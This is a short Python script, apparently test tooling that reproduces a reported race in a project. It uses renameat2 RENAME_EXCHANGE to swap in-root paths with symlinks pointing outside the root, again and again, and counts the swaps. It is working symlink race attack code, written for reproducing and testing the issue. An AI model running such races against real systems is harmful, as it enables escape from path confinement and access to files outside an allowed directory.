"""Swaps pairs of paths with renameat2(RENAME_EXCHANGE) in a loop, as fast as it can.

This file implements the attacker of issue 10's swap race from the perspective of a user who
can write to a directory under a pool's root: each pair (a regular file or directory inside,
a symlink to outside) is exchanged atomically, again and again, for SECONDS seconds; then it
prints how many exchanges succeeded. Usage: rename-exchange.py SECONDS A1 B1 [A2 B2 ...]
"""
import ctypes
import os
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2

libc = ctypes.CDLL(None, use_errno=True)
renameat2 = libc.renameat2
renameat2.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint]

seconds = float(sys.argv[1])
paths = [os.fsencode(p) for p in sys.argv[2:]]
pairs = list(zip(paths[0::2], paths[1::2]))
end = time.monotonic() + seconds
swaps = 0
while time.monotonic() < end:
    for a, b in pairs:
        for _ in range(50):
            if renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
                sys.exit("renameat2: " + os.strerror(ctypes.get_errno()))
            swaps += 1
# An even number of exchanges per pair puts every path back where it was.
print(swaps)
